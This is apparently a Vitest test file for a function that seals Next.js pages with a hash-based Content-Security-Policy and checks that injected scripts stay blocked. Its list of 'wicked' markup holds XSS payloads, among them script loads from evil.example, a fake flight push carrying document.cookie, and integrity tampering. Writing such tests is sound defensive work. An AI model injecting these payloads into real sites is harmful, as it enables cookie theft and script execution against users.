import { describe, expect, test } from "vitest";

import { hashOf, seal } from "@/security/seal.mjs";

const START = "(self.__next_f=self.__next_f||[]).push([0])";
const FIRST = 'self.__next_f.push([1,"0:[\\"$\\",\\"p\\",null]\\n"])';
const SECOND = 'self.__next_f.push([1,"1:\\"caf\u00e9\\"\\n"])';
const FLIGHT = Buffer.from('0:["$","p",null]\n1:"café"\n');
const LOADER = 'globalThis["TURBOPACK"].push({})';
const CHUNK = "/_next/static/chunks/page.js";
const INTEGRITY = "sha256-jxwhFZ6Z2MJrlVB3ZLGmzcmVhjHaXvXHOhpZPRu9P1s=";

const known = { inline: new Set([LOADER]), integrity: new Map([[CHUNK, INTEGRITY]]) };

/** A page as Next writes it, with something of an author's between its own scripts. */
function page(authors = ""): string {
  return [
    `<html><head><script src="${CHUNK}" async=""></script></head><body>`,
    `<p>Hello</p>${authors}`,
    ...[LOADER, START, FIRST, SECOND].map((code) => `<script>${code}</script>`),
    "</body></html>",
  ].join("");
}

function scripts(policy: string): string[] {
  const directive = policy.split("; ").find((part) => part.startsWith("script-src "));
  return directive?.split(" ").slice(1) ?? [];
}

test("a page's own scripts are named by hash, and no other source is", () => {
  const { policy, unknown } = seal(page(), FLIGHT, known);
  expect(unknown).toEqual([]);
  expect(scripts(policy)).toEqual([
    "'strict-dynamic'",
    `'${INTEGRITY}'`,
    ...[LOADER, START, FIRST, SECOND].map((code) => `'${hashOf(code)}'`),
  ]);
});

test("each file of the build in the page says the integrity that the policy names", () => {
  const { html } = seal(page(), FLIGHT, known);
  expect(html).toContain(`<script src="${CHUNK}" async="" integrity="${INTEGRITY}"></script>`);
  expect(seal(html, FLIGHT, known).html).toBe(html);
});

describe("what an author put between script tags stays blocked", () => {
  const wicked = [
    "<script>alert(1)</script>",
    "<SCRIPT >alert(1)</SCRIPT >",
    '<script type="module">import("//evil.example/x.js")</script>',
    '<script type="application/ld+json" src="//evil.example/x.js"></script>',
    '<script nonce="">alert(1)</script>',
    // What looks like Next's own, and says something that was not rendered.
    '<script>self.__next_f.push([1,"0:[\\"$\\",\\"script\\",null,{}]"])</script>',
    "<script>self.__next_f.push([1,document.cookie])</script>",
    '<script>self.__next_f.push([1,""]),alert(1)//])</script>',
    "<script>(self.__next_f=self.__next_f||[]).push([0]);alert(1)</script>",
    '<script>globalThis["TURBOPACK"].push({});alert(1)</script>',
    '<script src="//evil.example/x.js"></script>',
    '<script src="/api/v1/imports/1/rejected.csv"></script>',
    `<script src="${CHUNK}">alert(1)</script>`,
    `<script src="${CHUNK}" integrity="sha256-AAAAFZ6Z2MJrlVB3ZLGmzcmVhjHaXvXHOhpZPRu9P1s="></script>`,
    `<script src="${CHUNK}?x=1"></script>`,
  ];

  test.each(wicked)("%s", (markup) => {
    const { policy, unknown } = seal(page(markup), FLIGHT, known);
    expect(unknown).toHaveLength(1);
    expect(scripts(policy)).toEqual(scripts(seal(page(), FLIGHT, known).policy));
  });

  test("a part of the page said twice, or out of order, is not what was rendered", () => {
    const repeated = seal(page(`<script>${FIRST}</script><script>${FIRST}</script>`), FLIGHT, known);
    expect(repeated.unknown).not.toEqual([]);
    const early = seal(page(`<script>${SECOND}</script>`), FLIGHT, known);
    expect(early.unknown).toEqual([`<script>${SECOND}</script>`]);
  });

  test("markup that deceives the search for scripts makes the page dead, not open", () => {
    const { policy } = seal(page("<!--<script>alert(1)//-->"), FLIGHT, known);
    expect(scripts(policy)).not.toContain(`'${hashOf("alert(1)//-->")}'`);
    expect(scripts(policy)).not.toContain(`'${hashOf(LOADER)}'`);
  });
});

test("data for search engines is no script", () => {
  const { unknown } = seal(page('<script type="application/ld+json">{}</script>'), FLIGHT, known);
  expect(unknown).toEqual([]);
});

test("what is not text reaches React in base64, and is compared as bytes", () => {
  const bytes = Buffer.from([0xff, 0x00, 0xfe]);
  const code = `self.__next_f.push([3,"${bytes.toString("base64")}"])`;
  const { unknown } = seal(`<script>${code}</script>`, bytes, known);
  expect(unknown).toEqual([]);
  expect(seal(`<script>${code}</script>`, Buffer.from("else"), known).unknown).toHaveLength(1);
});
